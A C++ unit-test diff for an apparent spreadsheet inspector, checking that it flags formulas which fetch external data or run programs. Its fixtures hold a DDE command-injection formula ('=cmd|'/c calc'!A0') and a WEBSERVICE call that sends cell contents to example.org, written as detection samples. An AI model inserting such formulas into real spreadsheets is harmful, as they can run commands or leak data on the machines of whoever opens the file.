@@ -56,6 +56,19 @@ std::vector<TestSheet> board(const std::string& last_label, const std::string& t
            {}}};
 }
 
+TEST(FetchingFormulas, are_named_once_for_each_sheet) {
+  const std::vector<TestSheet> sheets = {
+      {"Web", {{"Kurs", "=_xlfn.WEBSERVICE(\"https://example.org/\"&A1)|5", "=1+rtd(\"a.b\",,\"c\")|2"}}, {}},
+      {"Program", {{"Kurs", "=cmd|'/c calc'!A0|1"}}, {}},
+      {"Ren", {{"a|b", "=A1&\"x|y\"|v", "='Web'!B1*2|10"}}, {}}};
+  std::vector<std::string> found;
+  for (const Finding& finding : inspect(workbook_of(sheets))) {
+    if (finding.code != "CF650") continue;
+    found.push_back(finding.place.sheet + "!" + to_a1(*finding.place.cell) + " " + finding.details.at("part"));
+  }
+  EXPECT_THAT(found, ElementsAre("Web!B1 RTD, WEBSERVICE", "Program!B1 DDE"));
+}
+
 TEST(RowLeftOut, is_found_between_the_range_and_its_total) {
   EXPECT_THAT(told(board("Tjänster", "Summa kostnader")),
               ElementsAre("CF501 Blad!B6 error certain: B6 600 -> 900 =SUM(B2:B5)"));
